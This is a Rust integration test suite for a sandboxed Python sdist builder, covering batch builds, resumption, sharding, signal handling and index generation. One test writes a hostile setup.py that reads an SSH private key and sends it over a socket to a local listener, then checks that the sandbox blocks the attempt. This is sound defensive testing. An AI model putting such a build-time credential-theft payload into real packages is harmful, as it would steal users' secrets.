//! `build-all` and `index` with real sdists in real sandboxes: a hash-pinned
//! list of every pinned fixture (setuptools, legacy setup.py, flit, hatchling,
//! poetry-core, pdm-backend, a C extension) plus a corrupt archive and a hash
//! mismatch, built two at a time; a rerun that skips what is done; the
//! index pip installs from; shards that cover the input exactly once; and a
//! batch as the unprivileged user with a hostile package in it.

mod common;

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use common::{CanaryHome, Listener, SECRET, Sdist, entry, summary};
use serde_json::Value;

struct Pin {
    filename: String,
    sha256: String,
    name: String,
    import_name: String,
}

fn pins() -> Vec<Pin> {
    let text = std::fs::read_to_string(common::repo().join("tests/fixtures/sdists.toml")).unwrap();
    let doc: toml::Table = toml::from_str(&text).unwrap();
    doc["sdist"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| Pin {
            filename: s["filename"].as_str().unwrap().into(),
            sha256: s["sha256"].as_str().unwrap().into(),
            name: s["name"].as_str().unwrap().into(),
            import_name: s["import_name"].as_str().unwrap().into(),
        })
        .collect()
}

/// The fixtures and the wheelhouse are there (else `skipped: …`).
fn ready() -> bool {
    if !common::ready_for_builds() {
        return false;
    }
    let missing: Vec<String> = pins()
        .iter()
        .filter(|p| !common::sdist_cache().join(&p.filename).exists())
        .map(|p| p.filename.clone())
        .collect();
    if !missing.is_empty() {
        let why = format!("test fixtures missing (run scripts/setup-tests): {missing:?}");
        if std::env::var_os(common::REQUIRE_ALL).is_some() {
            panic!("{why}");
        }
        eprintln!("skipped: {why}");
        return false;
    }
    true
}

fn sdist_box(args: &[&std::ffi::OsStr], as_user: Option<(u32, u32)>, home: &Path) -> Output {
    let mut cmd = common::sdist_box_as(as_user);
    cmd.args(args)
        .env("HOME", home)
        .env("NO_COLOR", "1")
        .output()
        .expect("run sdist-box")
}

fn text(o: &Output) -> String {
    format!(
        "exit {:?}\nstdout:\n{}\nstderr:\n{}",
        o.status.code(),
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

fn os(s: &str) -> &std::ffi::OsStr {
    std::ffi::OsStr::new(s)
}

/// The real interpreter (python3 may be a pyenv shim).
fn real_python() -> String {
    let out = Command::new(common::python())
        .args(["-c", "import sys; print(sys.executable)"])
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

#[test]
fn a_pinned_list_builds_two_at_a_time_resumes_and_installs_from_the_index() {
    if !ready() {
        return;
    }
    let tmp = tempfile::Builder::new()
        .prefix("sdist-box-batch-")
        .tempdir()
        .unwrap();
    let sdists = tmp.path().join("sdists");
    std::fs::create_dir_all(&sdists).unwrap();
    let pins = pins();
    assert!(pins.len() >= 10, "the fixture set shrank: {}", pins.len());
    for p in &pins {
        std::fs::copy(
            common::sdist_cache().join(&p.filename),
            sdists.join(&p.filename),
        )
        .unwrap();
    }
    // A corrupt archive: the first 3000 bytes of a real one (the gzip
    // stream ends mid-tar).
    let whole = std::fs::read(common::sdist_cache().join(&pins[0].filename)).unwrap();
    std::fs::write(sdists.join("truncated-1.0.tar.gz"), &whole[..3000]).unwrap();
    // An sdist pinned to another file's hash: it must never run. Were it
    // built, its setup.py would print a marker into the log.
    Sdist::setuptools_with("wrong-pin", "print('WRONG-PIN RAN')").write(&sdists);
    let wrong_pin = "wrong_pin-0.1.tar.gz";
    // A package whose own build fails: its failure is its own.
    Sdist::setuptools_with("fails-to-build", "raise SystemExit('BUILD-BOOM')").write(&sdists);

    // The list sits in its own directory: relative paths are relative to it.
    let list_dir = tmp.path().join("list");
    std::fs::create_dir_all(&list_dir).unwrap();
    let mut list = String::from("# every pinned fixture, hash-pinned as pip would have them\n");
    for (i, p) in pins.iter().enumerate() {
        if i % 2 == 0 {
            list.push_str(&format!(
                "../sdists/{} \\\n    --hash=sha256:{}  # {}\n",
                p.filename, p.sha256, p.name
            ));
        } else {
            list.push_str(&format!(
                "../sdists/{} --hash=sha256:{}\n",
                p.filename, p.sha256
            ));
        }
    }
    list.push_str("\n../sdists/truncated-1.0.tar.gz\n");
    list.push_str(&format!(
        "../sdists/{wrong_pin} --hash=sha256:{}\n",
        pins[0].sha256
    ));
    list.push_str("../sdists/fails_to_build-0.1.tar.gz\n");
    let list_path = list_dir.join("requirements.txt");
    std::fs::write(&list_path, list).unwrap();

    let out = tmp.path().join("out");
    let wheelhouse = common::wheelhouse().unwrap();
    let cache = common::env_cache();
    let args = |extra: &[&str]| -> Vec<std::ffi::OsString> {
        let mut a: Vec<std::ffi::OsString> = vec![
            "build-all".into(),
            list_path.clone().into(),
            "-o".into(),
            out.clone().into(),
            "--jobs".into(),
            "2".into(),
            "--find-links".into(),
            wheelhouse.clone().into(),
            "--no-index".into(),
            "--cache-dir".into(),
            cache.clone().into(),
            // markupsafe: a failed compile is an error, not a pure-Python fallback.
            "--env".into(),
            "CIBUILDWHEEL=1".into(),
        ];
        a.extend(extra.iter().map(|s| s.into()));
        a
    };
    let run = |extra: &[&str]| {
        let a = args(extra);
        let refs: Vec<&std::ffi::OsStr> = a.iter().map(|s| s.as_os_str()).collect();
        sdist_box(&refs, None, tmp.path())
    };

    // 1. The first run: every fixture built; the two bad entries refused.
    let events_path = tmp.path().join("events.jsonl");
    let first = run(&["--events", events_path.to_str().unwrap()]);
    let s = summary(&out);
    assert_eq!(
        first.status.code(),
        Some(5),
        "the worst outcome is a refused input:\n{}",
        text(&first)
    );
    assert_eq!(s["schema_version"], 2);
    assert_eq!(s["complete"], true);
    assert_eq!(s["jobs"], 2);
    assert_eq!(s["exit_code"], 5);
    assert_eq!(s["counts"]["built"], pins.len(), "{}", text(&first));
    assert_eq!(s["counts"]["refused"], 2);
    assert_eq!(s["counts"]["build_failed"], 1);
    assert_eq!(s["counts"]["skipped"], 0);
    let failing = entry(&s, "fails_to_build-0.1.tar.gz");
    assert_eq!(failing["status"], "build-failed", "{failing:#}");
    assert!(failing["wheel"].is_null());
    let flog = std::fs::read_to_string(out.join(failing["log"].as_str().unwrap())).unwrap();
    assert!(flog.contains("BUILD-BOOM"), "{flog}");
    let mut report_mtimes = Vec::new();
    for p in &pins {
        let e = entry(&s, &p.filename);
        assert_eq!(e["status"], "built", "{e:#}\n{}", text(&first));
        assert_eq!(e["sha256"], p.sha256.as_str());
        let wheel = out.join(e["wheel"].as_str().unwrap());
        assert!(wheel.is_file(), "{}", wheel.display());
        let report_path = out.join(e["report"].as_str().unwrap());
        let report: Value =
            serde_json::from_str(&std::fs::read_to_string(&report_path).unwrap()).unwrap();
        assert_eq!(report["input"]["sha256"], p.sha256.as_str());
        assert_eq!(report["input"]["sha256_pinned"], true);
        assert_eq!(
            report["wheel"]["sha256"].as_str().unwrap(),
            sdist_box::archive::sha256_file(&wheel).unwrap()
        );
        assert!(out.join(e["log"].as_str().unwrap()).is_file());
        report_mtimes.push((
            report_path.clone(),
            std::fs::metadata(&report_path).unwrap().modified().unwrap(),
        ));
    }
    let truncated = entry(&s, "truncated-1.0.tar.gz");
    assert_eq!(truncated["status"], "refused", "{truncated:#}");
    assert!(
        truncated["reason"]
            .as_str()
            .unwrap()
            .contains("truncated-1.0.tar.gz"),
        "the reason names the archive: {truncated:#}"
    );
    let mismatch = entry(&s, wrong_pin);
    assert_eq!(mismatch["status"], "refused", "{mismatch:#}");
    let reason = mismatch["reason"].as_str().unwrap();
    assert!(
        reason.contains(wrong_pin) && reason.contains(&pins[0].sha256),
        "the reason names the file and the pin: {reason}"
    );
    // Nothing of it ran: no log, and its report says it was never extracted.
    assert!(!out.join("wrong_pin-0.1.build.log").exists());
    let mreport: Value = serde_json::from_str(
        &std::fs::read_to_string(out.join("wrong_pin-0.1.sdist-box.json")).unwrap(),
    )
    .unwrap();
    assert!(mreport["input"]["archive"].is_null(), "{mreport:#}");
    assert!(mreport["wheel"].is_null());
    let stderr = String::from_utf8_lossy(&first.stderr);
    assert!(
        stderr.contains("package") && stderr.contains("findings") && stderr.contains("refused"),
        "the summary table: {stderr}"
    );
    assert!(!stderr.contains("WRONG-PIN RAN"));

    // The stage events of builds running at once: whole lines, each valid,
    // one `done` per entry, each naming its list entry (FILE:LINE).
    let ev = common::schema("events.schema.json");
    let mut done_entries = BTreeSet::new();
    for line in std::fs::read_to_string(&events_path).unwrap().lines() {
        let e: Value = serde_json::from_str(line).unwrap_or_else(|err| panic!("{err}: {line}"));
        assert!(ev.is_valid(&e), "{line}");
        let entry = e["package"]["input_entry"].as_str().unwrap_or_default();
        assert!(
            entry.starts_with(&format!("{}:", list_path.display())),
            "{line}"
        );
        if e["stage"] == "done" {
            assert!(
                done_entries.insert(entry.to_string()),
                "two `done` for {entry}"
            );
        }
    }
    assert_eq!(done_entries.len(), pins.len() + 3, "{done_entries:?}");

    // 2. A rerun skips every finished sdist and rewrites none of its outputs.
    let second = run(&[]);
    assert_eq!(second.status.code(), Some(5), "{}", text(&second));
    let s2 = summary(&out);
    assert_eq!(s2["counts"]["skipped"], pins.len(), "{}", text(&second));
    assert_eq!(s2["counts"]["built"], 0);
    assert_eq!(s2["counts"]["refused"], 2);
    // What failed is tried again.
    assert_eq!(s2["counts"]["build_failed"], 1);
    for p in &pins {
        assert_eq!(entry(&s2, &p.filename)["status"], "skipped");
    }
    for (path, mtime) in &report_mtimes {
        assert_eq!(
            &std::fs::metadata(path).unwrap().modified().unwrap(),
            mtime,
            "{} was rewritten by the rerun",
            path.display()
        );
    }
    // The plan agrees: every fixture would be skipped.
    let plan = run(&["--dry-run"]);
    assert_eq!(plan.status.code(), Some(0), "{}", text(&plan));
    let plan_out = String::from_utf8_lossy(&plan.stdout);
    assert_eq!(
        plan_out.lines().filter(|l| l.starts_with("skip\t")).count(),
        pins.len(),
        "{plan_out}"
    );
    // Under another profile, nothing counts as done.
    let strict = run(&["--dry-run", "--profile", "strict"]);
    let strict_out = String::from_utf8_lossy(&strict.stdout);
    assert_eq!(
        strict_out
            .lines()
            .filter(|l| l.starts_with("build\t"))
            .count(),
        pins.len() + 2,
        "every fixture, the truncated archive and the failing package: {strict_out}"
    );
    assert!(
        plan_out.contains("hash-mismatch\t0/1\twrong-pin\t"),
        "{plan_out}"
    );

    // 3. The index, and pip installing from it into a fresh venv.
    let idx = sdist_box(&[os("index"), out.as_os_str()], None, tmp.path());
    assert_eq!(idx.status.code(), Some(0), "{}", text(&idx));
    let root: Value =
        serde_json::from_str(&std::fs::read_to_string(out.join("simple/index.json")).unwrap())
            .unwrap();
    assert_eq!(root["meta"]["api-version"], "1.1");
    assert_eq!(root["projects"].as_array().unwrap().len(), pins.len());
    let venv = tmp.path().join("venv");
    let made = Command::new(real_python())
        .args(["-m", "venv"])
        .arg(&venv)
        .output()
        .unwrap();
    assert!(made.status.success(), "{}", text(&made));
    let index_url = format!("file://{}", out.join("simple").display());
    let names: Vec<&str> = vec!["markupsafe", "tomli", "pdm-backend", "colorama"];
    let install = Command::new(venv.join("bin/pip"))
        .args([
            "install",
            "--no-deps",
            "--disable-pip-version-check",
            "--index-url",
            &index_url,
        ])
        .args(&names)
        .output()
        .unwrap();
    assert!(install.status.success(), "{}", text(&install));
    let imports: Vec<String> = pins
        .iter()
        .filter(|p| names.contains(&p.name.as_str()))
        .map(|p| p.import_name.clone())
        .collect();
    let code = format!(
        "import importlib, markupsafe._speedups\nfor m in {imports:?}: importlib.import_module(m)\nprint('imported', len({imports:?}))"
    );
    let ran = Command::new(venv.join("bin/python"))
        .args(["-c", &code])
        .current_dir(tmp.path())
        .output()
        .unwrap();
    assert!(ran.status.success(), "{}", text(&ran));
    assert!(String::from_utf8_lossy(&ran.stdout).contains(&format!("imported {}", names.len())));
}

#[test]
fn shards_cover_the_input_exactly_once() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("sdists");
    std::fs::create_dir_all(&dir).unwrap();
    let mut all = BTreeSet::new();
    for p in pins() {
        // Content does not matter for the plan: the shard comes from the name.
        std::fs::write(dir.join(&p.filename), p.sha256.as_bytes()).unwrap();
        all.insert(dir.join(&p.filename));
    }
    for i in 0..30 {
        let f = dir.join(format!("project_{i}-1.{i}.tar.gz"));
        std::fs::write(&f, b"not even an archive").unwrap();
        all.insert(f);
    }
    // Two versions of one project (names spelled differently).
    for f in ["Same.Project-1.0.tar.gz", "same_project-2.0.zip"] {
        std::fs::write(dir.join(f), b"x").unwrap();
        all.insert(dir.join(f));
    }
    std::fs::write(dir.join("README.txt"), b"not an sdist").unwrap();
    let out = tmp.path().join("out");
    let plan = |shard: Option<&str>| -> Vec<(String, PathBuf)> {
        let mut a = vec![
            os("build-all"),
            dir.as_os_str(),
            os("-o"),
            out.as_os_str(),
            os("--list"),
        ];
        if let Some(s) = shard {
            a.push(os("--shard"));
            a.push(os(s));
        }
        let o = sdist_box(&a, None, tmp.path());
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
        String::from_utf8_lossy(&o.stdout)
            .lines()
            .map(|l| {
                let cols: Vec<&str> = l.split('\t').collect();
                assert_eq!(cols.len(), 4, "{l}");
                assert_eq!(cols[0], "build", "{l}");
                (cols[2].to_string(), PathBuf::from(cols[3]))
            })
            .collect()
    };
    let whole: BTreeSet<PathBuf> = plan(None).into_iter().map(|(_, p)| p).collect();
    assert_eq!(whole, all, "the plan without --shard is the whole input");
    let mut seen = BTreeSet::new();
    let mut sizes = Vec::new();
    for i in 0..3 {
        let part = plan(Some(&format!("{i}/3")));
        sizes.push(part.len());
        for (_, path) in part {
            assert!(
                seen.insert(path.clone()),
                "{} is in two shards",
                path.display()
            );
        }
    }
    assert_eq!(seen, all, "shards 0/3, 1/3, 2/3 together are the input");
    assert!(sizes.iter().all(|&n| n > 0), "{sizes:?}");
    // Both versions of one project land in the same shard.
    let same: Vec<usize> = (0..3)
        .filter(|i| {
            plan(Some(&format!("{i}/3")))
                .iter()
                .any(|(k, _)| k == "same-project")
        })
        .collect();
    assert_eq!(same.len(), 1, "{same:?}");
    let in_it = plan(Some(&format!("{}/3", same[0])));
    assert_eq!(in_it.iter().filter(|(k, _)| k == "same-project").count(), 2);
    // A bad --shard is a usage error.
    let bad = sdist_box(
        &[
            os("build-all"),
            dir.as_os_str(),
            os("-o"),
            out.as_os_str(),
            os("--shard"),
            os("3/3"),
        ],
        None,
        tmp.path(),
    );
    assert_eq!(bad.status.code(), Some(2), "{}", text(&bad));
    assert!(!out.exists(), "a dry run writes nothing");
}

#[test]
fn a_batch_as_the_unprivileged_user_stops_and_names_a_hostile_package() {
    require!(
        common::userns_available(),
        "user namespaces are disabled on this host"
    );
    require!(common::is_root(), "needs root to switch to the test user");
    let Some(user) = common::test_user() else {
        require!(
            false,
            "no user sdistbox-test (scripts/setup-tests creates it)"
        );
        return;
    };
    if !ready() {
        return;
    }
    let home = CanaryHome::new();
    let listener = Listener::start();
    listener.self_check();
    let tmp = common::tempdir_for(Some(user));
    let dir = tmp.path().join("sdists");
    std::fs::create_dir_all(&dir).unwrap();
    for f in ["tomli-2.3.0.tar.gz", "docopt-0.6.2.tar.gz"] {
        std::fs::copy(common::sdist_cache().join(f), dir.join(f)).unwrap();
    }
    let attack = format!(
        r#"
import socket
try:
    key = open({key:?}).read()
except OSError as e:
    key = 'denied ' + type(e).__name__
try:
    s = socket.create_connection(('127.0.0.1', {port}), timeout=3)
    s.sendall(key.encode())
    print('ATTACK sent')
except OSError as e:
    print('ATTACK connect denied', type(e).__name__)
"#,
        key = home.path().join(".ssh/id_rsa").display().to_string(),
        port = listener.port
    );
    Sdist::setuptools_with("sneaky", &attack).write(&dir);
    let wheelhouse = tmp.path().join("wh");
    std::fs::create_dir_all(&wheelhouse).unwrap();
    for e in std::fs::read_dir(common::wheelhouse().unwrap()).unwrap() {
        let e = e.unwrap();
        std::fs::copy(e.path(), wheelhouse.join(e.file_name())).unwrap();
    }
    let out = tmp.path().join("out");
    let cache = tmp.path().join("cache");
    for p in [&dir, &wheelhouse, tmp.path()] {
        Command::new("chmod")
            .args(["-R", "a+rX"])
            .arg(p)
            .status()
            .unwrap();
    }
    Command::new("chown")
        .arg("-R")
        .arg(format!("{}:{}", user.0, user.1))
        .arg(tmp.path())
        .status()
        .unwrap();
    let o = sdist_box(
        &[
            os("build-all"),
            dir.as_os_str(),
            os("-o"),
            out.as_os_str(),
            os("-j"),
            os("2"),
            os("--python"),
            os("/usr/bin/python3"),
            os("--find-links"),
            wheelhouse.as_os_str(),
            os("--no-index"),
            os("--cache-dir"),
            cache.as_os_str(),
        ],
        Some(user),
        home.path(),
    );
    let s = summary(&out);
    // Every wheel built; the hostile one's findings make the run exit 1.
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert_eq!(s["counts"]["built"], 3, "{}", text(&o));
    assert_eq!(s["counts"]["fails_on"], 1);
    let sneaky = entry(&s, "sneaky-0.1.tar.gz");
    assert_eq!(sneaky["fails_on"], true, "{sneaky:#}");
    assert!(sneaky["findings"].as_u64().unwrap() >= 1);
    for f in ["tomli-2.3.0.tar.gz", "docopt-0.6.2.tar.gz"] {
        assert_eq!(entry(&s, f)["fails_on"], false, "{}", text(&o));
    }
    // The attack was stopped...
    assert_eq!(listener.connections(), 0, "the host listener was reached");
    home.assert_unchanged();
    let log = std::fs::read_to_string(out.join("sneaky-0.1.build.log")).unwrap();
    assert!(log.contains("ATTACK connect denied"), "{log}");
    assert!(!log.contains(SECRET));
    // ...and its report names it.
    let report: Value = serde_json::from_str(
        &std::fs::read_to_string(out.join(sneaky["report"].as_str().unwrap())).unwrap(),
    )
    .unwrap();
    let target = format!("127.0.0.1:{}", listener.port);
    assert!(
        report["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["severity"] == "blocked"
                && f["target"].as_str().unwrap_or("").contains(&target)),
        "no blocked finding for {target}: {:#}",
        report["findings"]
    );
    assert_eq!(report["sandbox"]["enforcement"]["host_uid"], user.0);
    // Outputs belong to the user who ran it.
    use std::os::unix::fs::MetadataExt;
    assert_eq!(
        std::fs::metadata(out.join("build-all.json")).unwrap().uid(),
        user.0
    );
}

#[test]
fn a_killed_run_leaves_no_half_outputs_and_the_rerun_resumes() {
    if !ready() {
        return;
    }
    let tmp = tempfile::Builder::new()
        .prefix("sdist-box-batch-kill-")
        .tempdir()
        .unwrap();
    let dir = tmp.path().join("sdists");
    std::fs::create_dir_all(&dir).unwrap();
    // Eight, so that a loaded machine that is slow to notice the first
    // report (warm builds take ~0.3 s each) still kills the run mid-way.
    let names = [
        "apipkg-1.5.tar.gz",
        "cachetools-6.2.1.tar.gz",
        "colorama-0.4.6.tar.gz",
        "docopt-0.6.2.tar.gz",
        "mock-2.0.0.tar.gz",
        "pluggy-1.6.0.tar.gz",
        "tomli-2.3.0.tar.gz",
        "tomlkit-0.13.3.tar.gz",
    ];
    for f in names {
        std::fs::copy(common::sdist_cache().join(f), dir.join(f)).unwrap();
    }
    let out = tmp.path().join("out");
    let work = tmp.path().join("work");
    std::fs::create_dir_all(&work).unwrap();
    let wheelhouse = common::wheelhouse().unwrap();
    let cache = common::env_cache();
    let cmd = || {
        let mut c = Command::new(common::bin());
        c.arg("build-all")
            .arg(&dir)
            .arg("-o")
            .arg(&out)
            .args(["--jobs", "1", "--no-index", "--find-links"])
            .arg(&wheelhouse)
            .arg("--cache-dir")
            .arg(&cache)
            .arg("--work-dir")
            .arg(&work)
            .env("HOME", tmp.path())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null());
        c
    };
    let reports = || -> Vec<String> {
        let mut r: Vec<String> = std::fs::read_dir(&out)
            .map(|rd| {
                rd.flatten()
                    .map(|e| e.file_name().to_string_lossy().into_owned())
                    .filter(|n| n.ends_with(".sdist-box.json"))
                    .collect()
            })
            .unwrap_or_default();
        r.sort();
        r
    };
    // 1. Killed with SIGKILL (none of our clean-up runs) once the first
    //    report is written, while the next sdist builds.
    let mut child = cmd().spawn().unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(300);
    while reports().is_empty() {
        assert!(
            std::time::Instant::now() < deadline,
            "no report within 300 s"
        );
        assert!(child.try_wait().unwrap().is_none(), "build-all ended early");
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    std::thread::sleep(std::time::Duration::from_millis(300));
    child.kill().unwrap();
    child.wait().unwrap();
    let done_before = reports();
    assert!(
        done_before.len() < names.len(),
        "it finished before the kill"
    );
    let s = summary(&out);
    assert_eq!(s["complete"], false, "{s:#}");
    // Nothing half-written under a final name: every wheel there opens as a
    // whole zip, every report and the summary parse (temporary files are
    // dot-files beside them).
    for e in std::fs::read_dir(&out).unwrap().flatten() {
        let n = e.file_name().to_string_lossy().into_owned();
        if n.starts_with('.') {
            continue;
        }
        if n.ends_with(".whl") {
            let f = std::fs::File::open(e.path()).unwrap();
            assert!(zip::ZipArchive::new(f).is_ok(), "{n} is not a whole wheel");
        }
        if n.ends_with(".json") {
            let t = std::fs::read_to_string(e.path()).unwrap();
            assert!(
                serde_json::from_str::<Value>(&t).is_ok(),
                "{n} is not whole JSON"
            );
        }
    }
    let mtimes: Vec<_> = done_before
        .iter()
        .map(|n| std::fs::metadata(out.join(n)).unwrap().modified().unwrap())
        .collect();

    // 2. The rerun skips what was finished and builds the rest.
    let o = cmd().stderr(std::process::Stdio::piped()).output().unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let s = summary(&out);
    assert_eq!(s["complete"], true);
    assert_eq!(s["counts"]["skipped"], done_before.len(), "{s:#}");
    assert_eq!(
        s["counts"]["built"],
        names.len() - done_before.len(),
        "{s:#}"
    );
    for (n, m) in done_before.iter().zip(&mtimes) {
        assert_eq!(
            &std::fs::metadata(out.join(n)).unwrap().modified().unwrap(),
            m,
            "{n} was rewritten"
        );
    }
    for f in names {
        let e = entry(&s, f);
        assert!(e["status"] == "built" || e["status"] == "skipped", "{e:#}");
        assert!(out.join(e["wheel"].as_str().unwrap()).is_file());
    }
}

/// `build-all` starts sandboxes from several threads of one process while
/// other threads start and end. The clone child must not wait on a lock a
/// parent thread held at the instant of the clone (it once did: glibc's
/// setresuid in the child waited forever on glibc's thread-list lock).
#[test]
fn sandboxes_start_from_many_threads_without_hanging() {
    require!(
        common::userns_available(),
        "user namespaces are disabled on this host"
    );
    use sdist_box::policy::{self, BuildPaths, HostLayout, Profile};
    use std::sync::atomic::{AtomicBool, Ordering};
    use std::sync::{Arc, mpsc};
    let profile = Profile::load("default").unwrap();
    let plan = policy::compile(
        &profile,
        &HostLayout::detect(),
        &BuildPaths::default(),
        vec!["/bin/true".into()],
        &[],
    )
    .plan;
    let opts = sdist_box::sandbox::RunOptions {
        init_exe: Some(common::bin()),
        ..sdist_box::events::kernel::run_options()
    };
    const THREADS: usize = 4;
    const RUNS: usize = 25;
    let stop = Arc::new(AtomicBool::new(false));
    // Threads starting and ending all the time, as the sandboxes' own
    // reader threads do in the other workers.
    let churn = {
        let stop = stop.clone();
        std::thread::spawn(move || {
            while !stop.load(Ordering::Relaxed) {
                std::thread::spawn(|| ()).join().unwrap();
            }
        })
    };
    let (tx, rx) = mpsc::channel();
    for _ in 0..THREADS {
        let (plan, opts, tx) = (plan.clone(), opts.clone(), tx.clone());
        std::thread::spawn(move || {
            for _ in 0..RUNS {
                let outcome = sdist_box::sandbox::run(&plan, &opts);
                tx.send(outcome.map(|o| o.exit).map_err(|e| e.to_string()))
                    .unwrap();
            }
        });
    }
    drop(tx);
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(240);
    let mut done = 0;
    while done < THREADS * RUNS {
        let left = deadline.saturating_duration_since(std::time::Instant::now());
        match rx.recv_timeout(left) {
            Ok(Ok(exit)) => {
                assert!(exit.success(), "/bin/true in the sandbox: {exit:?}");
                done += 1;
            }
            Ok(Err(e)) => panic!("a sandbox could not start: {e}"),
            Err(_) => panic!(
                "{} of {} sandbox starts did not finish within 240 s: a start hung",
                THREADS * RUNS - done,
                THREADS * RUNS
            ),
        }
    }
    stop.store(true, Ordering::Relaxed);
    churn.join().unwrap();
}

#[test]
fn a_second_run_into_the_same_directory_is_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("sdists");
    let out = tmp.path().join("out");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::create_dir_all(&out).unwrap();
    std::fs::write(dir.join("x-1.0.tar.gz"), b"not an archive").unwrap();
    // As a running build-all holds it.
    let lock = std::fs::File::create(out.join(".build-all.lock")).unwrap();
    let held = nix::fcntl::Flock::lock(lock, nix::fcntl::FlockArg::LockExclusive).unwrap();
    let args = [os("build-all"), dir.as_os_str(), os("-o"), out.as_os_str()];
    let o = sdist_box(&args, None, tmp.path());
    assert_eq!(o.status.code(), Some(6), "{}", text(&o));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("another `sdist-box build-all` is writing into")
            && err.contains(&out.display().to_string()),
        "{err}"
    );
    assert!(!out.join("build-all.json").exists(), "it wrote nothing");
    // Released, the same command runs (and refuses the bad archive).
    drop(held);
    let o = sdist_box(&args, None, tmp.path());
    assert_eq!(o.status.code(), Some(5), "{}", text(&o));
    assert_eq!(summary(&out)["counts"]["refused"], 1);
}

#[test]
fn sigterm_finishes_the_builds_in_progress_and_the_rerun_builds_the_rest() {
    if !ready() {
        return;
    }
    let tmp = tempfile::Builder::new()
        .prefix("sdist-box-batch-term-")
        .tempdir()
        .unwrap();
    let dir = tmp.path().join("sdists");
    std::fs::create_dir_all(&dir).unwrap();
    // First in the order: a package that records its own signal mask (the
    // run blocks SIGINT/SIGTERM in its threads; a build must not inherit that).
    Sdist::setuptools_with(
        "a-mask-check",
        "print('MASK', [l.strip() for l in open('/proc/self/status') if l.startswith('SigBlk')])",
    )
    .write(&dir);
    // Eight, so that a loaded machine that is slow to notice the first
    // report (warm builds take ~0.3 s each) still kills the run mid-way.
    let names = [
        "apipkg-1.5.tar.gz",
        "cachetools-6.2.1.tar.gz",
        "colorama-0.4.6.tar.gz",
        "docopt-0.6.2.tar.gz",
        "mock-2.0.0.tar.gz",
        "pluggy-1.6.0.tar.gz",
        "tomli-2.3.0.tar.gz",
        "tomlkit-0.13.3.tar.gz",
    ];
    for f in names {
        std::fs::copy(common::sdist_cache().join(f), dir.join(f)).unwrap();
    }
    let out = tmp.path().join("out");
    let work = tmp.path().join("work");
    std::fs::create_dir_all(&work).unwrap();
    let wheelhouse = common::wheelhouse().unwrap();
    let cache = common::env_cache();
    let cmd = || {
        let mut c = Command::new(common::bin());
        c.arg("build-all")
            .arg(&dir)
            .arg("-o")
            .arg(&out)
            .args(["--jobs", "1", "--no-index", "--find-links"])
            .arg(&wheelhouse)
            .arg("--cache-dir")
            .arg(&cache)
            .arg("--work-dir")
            .arg(&work)
            .env("HOME", tmp.path())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::piped());
        c
    };
    let child = cmd().spawn().unwrap();
    let first_report = out.join("a_mask_check-0.1.sdist-box.json");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(300);
    while !first_report.exists() {
        assert!(
            std::time::Instant::now() < deadline,
            "no report within 300 s"
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(child.id() as i32),
        nix::sys::signal::Signal::SIGTERM,
    )
    .unwrap();
    let o = child.wait_with_output().unwrap();
    assert_eq!(o.status.code(), Some(143), "{}", text(&o));
    let stderr = String::from_utf8_lossy(&o.stderr);
    assert!(stderr.contains("SIGTERM received"), "{stderr}");
    let s = summary(&out);
    assert_eq!(s["complete"], false, "{s:#}");
    assert_eq!(s["interrupted"], "SIGTERM");
    let finished = s["entries"].as_array().unwrap();
    let pending = s["pending"].as_array().unwrap();
    assert!(!pending.is_empty(), "nothing was left to do: {s:#}");
    assert_eq!(finished.len() + pending.len(), names.len() + 1);
    // What was in progress was finished, not cut short.
    for e in finished {
        assert_eq!(e["status"], "built", "{e:#}");
    }
    // Nothing is left in the work directory.
    let left: Vec<_> = std::fs::read_dir(&work).unwrap().flatten().collect();
    assert!(left.is_empty(), "work directories left: {left:?}");
    // The build started with an empty signal mask.
    let log = std::fs::read_to_string(out.join("a_mask_check-0.1.build.log")).unwrap();
    assert!(log.contains("SigBlk:\\t0000000000000000"), "{log}");

    // The rerun builds the rest.
    let o = cmd().output().unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let s2 = summary(&out);
    assert_eq!(s2["complete"], true);
    assert!(s2["interrupted"].is_null());
    assert_eq!(s2["counts"]["skipped"], finished.len());
    assert_eq!(s2["counts"]["built"], pending.len());
}
